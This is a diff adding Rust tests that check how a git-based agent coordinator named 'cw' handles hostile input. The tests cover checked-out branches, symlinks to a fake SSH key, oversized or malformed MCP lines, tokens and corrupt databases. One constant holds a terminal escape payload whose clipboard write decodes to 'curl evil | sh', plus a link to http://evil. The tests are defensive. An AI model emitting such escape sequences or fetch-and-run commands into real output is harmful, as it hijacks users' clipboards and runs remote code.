@@ -1,0 +1,483 @@
+//! Hostile and clumsy input (issue 17): each test names the defect it guards against. The inputs
+//! are what a careless user types or a prompt-injected agent sends; each gets a clear error and
+//! loses nothing.
+
+use std::os::unix::fs::symlink;
+
+use cw::git::{self, GitError, Prepared};
+use cw::service::{AddTask, ImportOptions, ServiceError};
+use cw::workspace::Workspace;
+
+use crate::coordinator::{edit_config, sim_env};
+use crate::support::TestEnv;
+
+fn rev(env: &TestEnv, name: &str) -> String {
+    String::from_utf8(env.git(&["rev-parse", name]).stdout).unwrap().trim().to_owned()
+}
+
+// 1. cw never moves a branch that is checked out.
+
+#[test]
+fn cw_run_refuses_an_integration_branch_that_is_checked_out_naming_the_checkout() {
+    let env = sim_env("");
+    edit_config(&env, "integration_branch = \"cw/integration\"", "integration_branch = \"main\"");
+    env.cw(&["task", "add", "Write a file", "--description", "write a.txt a"]).ok();
+    let main_before = rev(&env, "main");
+    let run = env.cw(&["run", "--agent-command", "sim", "--exit-when-done"]);
+    let error = run.error(1);
+    assert!(error.contains("the integration branch main is checked out in"), "{error}");
+    assert!(error.contains(&env.root().display().to_string()), "{error}");
+    assert_eq!(rev(&env, "main"), main_before, "main did not move");
+    let state = env.cw(&["task", "list", "--json"]).json()[0]["state"].clone();
+    assert_eq!(state, "ready", "the task was not started and failed");
+}
+
+#[test]
+fn cw_run_validates_the_integration_branch_once_at_start() {
+    let env = sim_env("");
+    env.cw(&["task", "add", "One", "--description", "write a.txt a"]).ok();
+    env.cw(&["task", "add", "Two", "--description", "write b.txt b"]).ok();
+    let config = "integration_branch = \"cw/integration\"";
+    for (bad, expected) in [
+        ("\"\"", "is not a valid branch name"),
+        ("\"../../x\"", "is not a valid branch name"),
+        ("\"cw/missing\"", "the branch cw/missing does not exist"),
+    ] {
+        edit_config(&env, config, &format!("integration_branch = {bad}"));
+        let run = env.cw(&["run", "--agent-command", "sim", "--exit-when-done"]);
+        let error = run.error(1);
+        assert!(error.contains(expected), "{bad}: {error}");
+        edit_config(&env, &format!("integration_branch = {bad}"), config);
+    }
+    let states = env.cw(&["task", "list", "--json"]).json();
+    assert!(states.as_array().unwrap().iter().all(|t| t["state"] == "ready"), "{states}");
+}
+
+#[test]
+fn a_ref_move_is_refused_when_the_branch_was_checked_out_after_the_merge_was_computed() {
+    let env = TestEnv::initialised();
+    let location = Workspace::locate(&env.root()).unwrap().repo;
+    env.git(&["checkout", "-q", "-b", "cw/a-t1", "cw/integration"]);
+    env.write("a.txt", "a\n");
+    env.git(&["add", "a.txt"]);
+    env.git(&["commit", "-q", "-m", "a"]);
+    env.git(&["checkout", "-q", "main"]);
+    let Prepared::Ready(merge) =
+        git::prepare_merge(&location, "cw/integration", "cw/a-t1", "merge t1").unwrap()
+    else {
+        panic!("a clean merge")
+    };
+    let before = rev(&env, "cw/integration");
+    env.git(&["checkout", "-q", "cw/integration"]);
+    let err = git::advance(&location, &merge, "merge t1").unwrap_err();
+    assert!(matches!(err, GitError::CheckedOut { .. }), "{err}");
+    assert_eq!(rev(&env, "cw/integration"), before);
+    let status = String::from_utf8(env.git(&["status", "--porcelain"]).stdout).unwrap();
+    assert_eq!(status, "", "the user's checkout is untouched");
+}
+
+#[test]
+fn cw_init_refuses_when_the_integration_branch_is_checked_out() {
+    let env = TestEnv::repo();
+    env.git(&["checkout", "-q", "-b", "cw/integration"]);
+    let run = env.cw(&["init"]);
+    assert!(run.error(1).contains("is checked out in"), "{run:?}");
+    assert!(!env.root().join(".cw").exists(), "nothing half-made is left");
+}
+
+// 2. Terminal escape injection.
+
+const ESCAPES: &str =
+    "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;http://evil\x1b\\link";
+
+#[test]
+fn control_characters_in_titles_are_refused_with_the_rule() {
+    let env = TestEnv::initialised();
+    let run = env.cw(&["task", "add", "two\nlines"]);
+    assert!(run.error(1).contains("a title is one line"), "{run:?}");
+    let run = env.cw(&["task", "add", &format!("evil {ESCAPES}")]);
+    assert!(run.error(1).contains("control character U+001B"), "{run:?}");
+    assert_eq!(env.cw(&["task", "list", "--json"]).json(), serde_json::json!([]));
+}
+
+#[test]
+fn untrusted_text_reaches_the_terminal_with_control_characters_visible() {
+    let env = TestEnv::initialised();
+    let service = env.service();
+    let task = service
+        .add_task(&AddTask {
+            title: "An honest title".to_owned(),
+            description: format!("details {ESCAPES}\nsecond line"),
+            ..AddTask::default()
+        })
+        .unwrap();
+    let registration = service.register_agent("evil", None).unwrap();
+    service
+        .ask(
+            registration.agent.id,
+            &format!("question {ESCAPES}"),
+            &[format!("opt {ESCAPES}")],
+            None,
+        )
+        .unwrap();
+    for args in [
+        vec!["task", "show", &task.id.to_string()],
+        vec!["task", "list"],
+        vec!["inbox"],
+        vec!["status"],
+    ] {
+        let run = env.cw(&args);
+        let out = run.ok();
+        assert!(!out.contains('\x1b') && !out.contains('\x07'), "{args:?} printed raw: {out:?}");
+    }
+    let shown = env.cw(&["task", "show", &task.id.to_string()]);
+    assert!(shown.ok().contains("details \\e[2J\\e[H\\e]52;c;"), "{}", shown.stdout);
+    assert!(shown.ok().contains("\nsecond line"), "a multi-line body keeps its newlines");
+    let inbox = env.cw(&["inbox"]);
+    assert!(inbox.ok().contains("question \\e[2J"), "{}", inbox.stdout);
+    // --json stays exact.
+    let json = env.cw(&["task", "show", &task.id.to_string(), "--json"]).json();
+    assert_eq!(json["description"], format!("details {ESCAPES}\nsecond line"));
+}
+
+// 3. Import never follows a symlink out of the folder.
+
+fn planning_with_plan(env: &TestEnv) {
+    env.write(
+        ".planning/ROADMAP.md",
+        "# Roadmap: R\n\n## Phases\n\n- [ ] **Phase 1: One** - first\n\n### Phase 1: One\n**Goal**: g\n**Plans**: 1 plan\n",
+    );
+    env.write(
+        ".planning/phases/01-one/01-01-PLAN.md",
+        "---\nphase: 01-one\nplan: 01\nwave: 1\ndepends_on: []\n---\n\n<tasks>\n<task type=\"auto\">\n<name>Real</name>\n<action>Do it.</action>\n</task>\n</tasks>\n",
+    );
+}
+
+#[test]
+fn import_refuses_a_symlink_that_leaves_the_folder_naming_it() {
+    let env = TestEnv::initialised();
+    planning_with_plan(&env);
+    let secret = env.outer().join("id_ed25519");
+    fs_err::write(&secret, "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n").unwrap();
+    let link = env.root().join(".planning/phases/01-one/01-02-PLAN.md");
+    symlink(&secret, &link).unwrap();
+    let err = env.service().import(&env.root().join(".planning"), &ImportOptions::default());
+    let err = err.unwrap_err().to_string();
+    assert!(err.contains("01-02-PLAN.md is a link to"), "{err}");
+    assert!(err.contains("outside the imported folder"), "{err}");
+    assert!(env.service().list_tasks(&Default::default()).unwrap().tasks.is_empty());
+
+    // A symlinked phase directory pointing out of the folder is refused the same way.
+    fs_err::remove_file(&link).unwrap();
+    let outside = env.outer().join("elsewhere");
+    fs_err::create_dir_all(&outside).unwrap();
+    fs_err::write(outside.join("02-01-PLAN.md"), "---\nphase: 2\nplan: 1\n---\n<tasks></tasks>\n")
+        .unwrap();
+    symlink(&outside, env.root().join(".planning/phases/02-two")).unwrap();
+    let err = env.service().import(&env.root().join(".planning"), &ImportOptions::default());
+    assert!(err.unwrap_err().to_string().contains("outside the imported folder"));
+
+    // Inside the folder, a link is fine.
+    fs_err::remove_file(env.root().join(".planning/phases/02-two")).unwrap();
+    let real = env.root().join(".planning/phases/01-one/01-01-PLAN.md");
+    let moved = env.root().join(".planning/plan-source.md");
+    fs_err::rename(&real, &moved).unwrap();
+    symlink(&moved, &real).unwrap();
+    let report =
+        env.service().import(&env.root().join(".planning"), &ImportOptions::default()).unwrap();
+    assert_eq!(report.tasks_created, 1);
+}
+
+#[test]
+fn import_refuses_fifos_and_binary_plan_files_naming_them() {
+    let env = TestEnv::initialised();
+    planning_with_plan(&env);
+    let fifo = env.root().join(".planning/phases/01-one/01-02-PLAN.md");
+    let made = crate::support::command("mkfifo").arg(&fifo).status().unwrap();
+    assert!(made.success());
+    let err = env.service().import(&env.root().join(".planning"), &ImportOptions::default());
+    let err = err.unwrap_err().to_string();
+    assert!(err.contains("01-02-PLAN.md is not a regular file"), "{err}");
+    fs_err::remove_file(&fifo).unwrap();
+
+    fs_err::write(&fifo, b"\x7fELF\x02\x01\x01\x00\x00\x00binary").unwrap();
+    let err = env.service().import(&env.root().join(".planning"), &ImportOptions::default());
+    let err = err.unwrap_err().to_string();
+    assert!(err.contains("01-02-PLAN.md is binary, not text"), "{err}");
+}
+
+// 4. Limits hold on every path.
+
+#[test]
+fn import_refuses_a_task_over_the_description_limit_naming_file_and_line() {
+    let env = TestEnv::initialised();
+    planning_with_plan(&env);
+    let huge = "x".repeat(cw::service::MAX_DESCRIPTION_BYTES + 1);
+    env.write(
+        ".planning/phases/01-one/01-02-PLAN.md",
+        &format!(
+            "---\nphase: 01-one\nplan: 02\n---\n\n<tasks>\n<task type=\"auto\">\n<name>Huge</name>\n<action>{huge}</action>\n</task>\n</tasks>\n"
+        ),
+    );
+    let err = env.service().import(&env.root().join(".planning"), &ImportOptions::default());
+    let err = err.unwrap_err();
+    assert!(matches!(err, ServiceError::Import(_)), "{err}");
+    let text = err.to_string();
+    assert!(text.contains("phases/01-one/01-02-PLAN.md:7"), "{text}");
+    assert!(text.contains("the limit is 262144"), "{text}");
+}
+
+// 8. MCP stdio answers every line a client waits on.
+
+/// A `cw mcp` on pipes: lines go in, answers come out, each wait with a deadline.
+struct StdioServer {
+    child: std::process::Child,
+    stdin: std::process::ChildStdin,
+    answers: std::sync::mpsc::Receiver<serde_json::Value>,
+}
+
+impl StdioServer {
+    fn start(env: &TestEnv, token: Option<&str>) -> StdioServer {
+        use std::io::BufRead;
+        let mut command = env.cw_command(&env.root(), &["mcp"]);
+        if let Some(token) = token {
+            command.env("CW_TOKEN", token);
+        }
+        let mut child = command
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        let stdin = child.stdin.take().unwrap();
+        let stdout = std::io::BufReader::new(child.stdout.take().unwrap());
+        let (send, answers) = std::sync::mpsc::channel();
+        std::thread::spawn(move || {
+            for line in stdout.lines() {
+                let Ok(line) = line else { return };
+                let value = serde_json::from_str(&line).unwrap_or(serde_json::Value::String(line));
+                if send.send(value).is_err() {
+                    return;
+                }
+            }
+        });
+        StdioServer { child, stdin, answers }
+    }
+
+    fn send(&mut self, line: &[u8]) {
+        use std::io::Write;
+        self.stdin.write_all(line).unwrap();
+        self.stdin.write_all(b"\n").unwrap();
+        self.stdin.flush().unwrap();
+    }
+
+    #[track_caller]
+    fn answer(&self, what: &str) -> serde_json::Value {
+        self.answers
+            .recv_timeout(std::time::Duration::from_secs(20))
+            .unwrap_or_else(|_| panic!("no answer within 20 s to {what}"))
+    }
+
+    fn initialize(&mut self) -> serde_json::Value {
+        self.send(br#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"raw","version":"0"}}}"#);
+        self.answer("initialize")
+    }
+}
+
+impl Drop for StdioServer {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+#[test]
+fn cw_mcp_answers_malformed_oversized_and_ill_typed_lines_instead_of_going_silent() {
+    let env = TestEnv::initialised();
+    let mut server = StdioServer::start(&env, None);
+    server.send(br#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#);
+    let early = server.answer("a request before initialize");
+    assert_eq!(early["id"], 1);
+    assert_eq!(early["error"]["code"], -32600);
+    assert!(early["error"]["message"].as_str().unwrap().contains("send `initialize` first"));
+    assert!(server.initialize()["result"]["serverInfo"].is_object());
+    server.send(br#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#);
+
+    server.send(br#"{"jsonrpc":"2.0","id":2,"method":"tools/list""#);
+    let broken = server.answer("a line that is not JSON");
+    assert_eq!(
+        (broken["id"].clone(), broken["error"]["code"].clone()),
+        (2.into(), (-32700).into())
+    );
+    server.send(br#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"status","arguments":{"x":"\ud800"}}}"#);
+    let surrogate = server.answer("an invalid \\ud800 escape");
+    assert_eq!(
+        (surrogate["id"].clone(), surrogate["error"]["code"].clone()),
+        (3.into(), (-32700).into())
+    );
+    server.send(br#"{"jsonrpc":"2.0","id":4,"method":"tools/call"}"#);
+    let missing = server.answer("tools/call without params");
+    assert_eq!(
+        (missing["id"].clone(), missing["error"]["code"].clone()),
+        (4.into(), (-32602).into())
+    );
+    server.send(br#"{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":["status"]}}"#);
+    let ill_typed = server.answer("tools/call with an ill-typed name");
+    assert_eq!(ill_typed["error"]["code"], -32602);
+    let mut huge = br#"{"jsonrpc":"2.0","id":6,"method":"ping","params":{"pad":""#.to_vec();
+    huge.extend(std::iter::repeat_n(b'x', 17 * 1024 * 1024));
+    huge.extend(br#""}}"#);
+    server.send(&huge);
+    let too_long = server.answer("a line over the limit");
+    assert_eq!(too_long["error"]["code"], -32700);
+    assert!(too_long["error"]["message"].as_str().unwrap().contains("longer than"));
+    // The connection still works.
+    server.send(br#"{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"status","arguments":{}}}"#);
+    let status = server.answer("status after the bad lines");
+    assert_eq!(status["id"], 7);
+    assert_eq!(status["result"]["isError"], false, "{status}");
+}
+
+// 10. The operator token and agents' tokens.
+
+#[test]
+fn a_garbage_token_fails_the_handshake_with_the_reason() {
+    let env = TestEnv::initialised();
+    let mut server = StdioServer::start(&env, Some("cwa_garbage"));
+    let refused = server.initialize();
+    assert_eq!(refused["id"], 0);
+    let message = refused["error"]["message"].as_str().unwrap_or_default();
+    assert!(message.contains("the token is not valid for this repository"), "{refused}");
+}
+
+#[test]
+fn an_operator_token_file_others_can_read_is_refused_with_the_chmod_to_run() {
+    use std::os::unix::fs::PermissionsExt;
+    let env = TestEnv::initialised();
+    let path = env.root().join(".cw/operator.token");
+    fs_err::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let mut server = StdioServer::start(&env, None);
+    let refused = server.initialize();
+    let message = refused["error"]["message"].as_str().unwrap_or_default();
+    assert!(message.contains("can be read by others (mode 644)"), "{refused}");
+    assert!(message.contains(&format!("chmod 600 {}", path.display())), "{refused}");
+    drop(server);
+
+    fs_err::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
+    fs_err::remove_file(&path).unwrap();
+    let mut server = StdioServer::start(&env, None);
+    let refused = server.initialize();
+    let message = refused["error"]["message"].as_str().unwrap_or_default();
+    assert!(message.contains("operator token") && message.contains("is missing"), "{refused}");
+    assert!(message.contains("run `cw init`"), "{refused}");
+    drop(server);
+
+    env.cw(&["task", "add", "Kept"]).ok();
+    let run = env.cw(&["init"]);
+    assert!(run.ok().contains("made again"), "{run:?}");
+    assert!(path.is_file());
+    let mode = fs_err::metadata(&path).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600);
+    assert_eq!(
+        env.cw(&["task", "list", "--json"]).json()[0]["title"],
+        "Kept",
+        "nothing else changed"
+    );
+    let mut server = StdioServer::start(&env, None);
+    assert!(server.initialize()["result"].is_object());
+}
+
+#[test]
+fn an_exited_agents_token_stops_working() {
+    let env = TestEnv::initialised();
+    let service = env.service();
+    let registration = service.register_agent("short-lived", None).unwrap();
+    service.authenticate(Some(&registration.token)).unwrap();
+    service
+        .record_agent_exit(registration.agent.id, cw::service::ExitKind::Exited, "exit 0")
+        .unwrap();
+    let err = service.authenticate(Some(&registration.token)).unwrap_err();
+    assert!(matches!(err, ServiceError::UnknownToken), "{err}");
+}
+
+// 6, 7. One state, one message, one way out.
+
+#[test]
+fn a_missing_database_is_named_and_cw_init_makes_a_new_one_without_reusing_ids() {
+    let env = sim_env("");
+    let first = env.cw(&["task", "add", "First", "--description", "write a.txt a", "--json"]);
+    assert_eq!(first.json()["id"], "t1");
+    env.git(&["branch", "cw/first-t1", "cw/integration"]);
+    env.git(&["branch", "cw/other-t7", "cw/integration"]);
+    fs_err::rename(env.root().join(".cw/cw.db"), env.outer().join("cw.db.moved")).unwrap();
+    for args in [vec!["task", "list"], vec!["status"]] {
+        let run = env.cw(&args);
+        let error = run.error(1);
+        assert!(error.contains("cw.db is missing"), "{args:?}: {error}");
+        assert!(error.contains("run `cw init`"), "{args:?}: {error}");
+    }
+    let config_before = fs_err::read_to_string(env.root().join(".cw/config.toml")).unwrap();
+    let token_before = fs_err::read_to_string(env.root().join(".cw/operator.token")).unwrap();
+    let run = env.cw(&["init"]);
+    assert!(run.ok().contains("made again"), "{run:?}");
+    assert_eq!(fs_err::read_to_string(env.root().join(".cw/config.toml")).unwrap(), config_before);
+    assert_eq!(
+        fs_err::read_to_string(env.root().join(".cw/operator.token")).unwrap(),
+        token_before
+    );
+    let next = env.cw(&["task", "add", "After the loss", "--json"]).json();
+    assert_eq!(next["id"], "t8", "no id a branch already carries");
+    assert!(env.cw(&["init"]).error(1).contains("already initialised"));
+}
+
+#[test]
+fn a_zero_length_database_is_refused_as_corrupt_with_a_way_out_that_works() {
+    let env = TestEnv::initialised();
+    env.cw(&["task", "add", "Lost"]).ok();
+    let db = env.root().join(".cw/cw.db");
+    for suffix in ["-wal", "-shm"] {
+        let _ = fs_err::remove_file(env.root().join(format!(".cw/cw.db{suffix}")));
+    }
+    fs_err::write(&db, b"").unwrap();
+    let run = env.cw(&["task", "list"]);
+    assert!(run.error(1).contains("the file is empty (0 bytes)"), "{run:?}");
+    assert!(run.stderr.contains("move it away and run `cw init`"), "{run:?}");
+    let init = env.cw(&["init"]);
+    assert!(init.error(1).contains("the file is empty"), "init names it too: {init:?}");
+    fs_err::rename(&db, env.outer().join("cw.db.broken")).unwrap();
+    env.cw(&["init"]).ok();
+    env.cw(&["task", "list"]).ok();
+}
+
+#[test]
+fn a_cw_that_is_a_file_or_a_dangling_link_or_a_db_that_is_a_directory_gets_one_way_out() {
+    let env = TestEnv::initialised();
+    let cw = env.root().join(".cw");
+    fs_err::rename(&cw, env.outer().join("saved-cw")).unwrap();
+    fs_err::write(&cw, "not a directory").unwrap();
+    for args in [vec!["init"], vec!["task", "list"]] {
+        let error = env.cw(&args).error(1).to_owned();
+        assert!(error.contains(".cw is a file, not a directory"), "{args:?}: {error}");
+        assert!(error.contains("move it away"), "{args:?}: {error}");
+    }
+    fs_err::remove_file(&cw).unwrap();
+    symlink(env.outer().join("nowhere"), &cw).unwrap();
+    for args in [vec!["init"], vec!["status"]] {
+        let error = env.cw(&args).error(1).to_owned();
+        assert!(error.contains("is a dangling symbolic link"), "{args:?}: {error}");
+    }
+    fs_err::remove_file(&cw).unwrap();
+    fs_err::rename(env.outer().join("saved-cw"), &cw).unwrap();
+    for suffix in ["", "-wal", "-shm"] {
+        let _ = fs_err::remove_file(cw.join(format!("cw.db{suffix}")));
+    }
+    fs_err::create_dir(cw.join("cw.db")).unwrap();
+    for args in [vec!["init"], vec!["task", "list"]] {
+        let error = env.cw(&args).error(1).to_owned();
+        assert!(error.contains("cw.db is a directory, not a file"), "{args:?}: {error}");
+    }
+    // The way out named works.
+    fs_err::rename(cw.join("cw.db"), env.outer().join("db-dir")).unwrap();
+    env.cw(&["init"]).ok();
+    env.cw(&["task", "list"]).ok();
+}
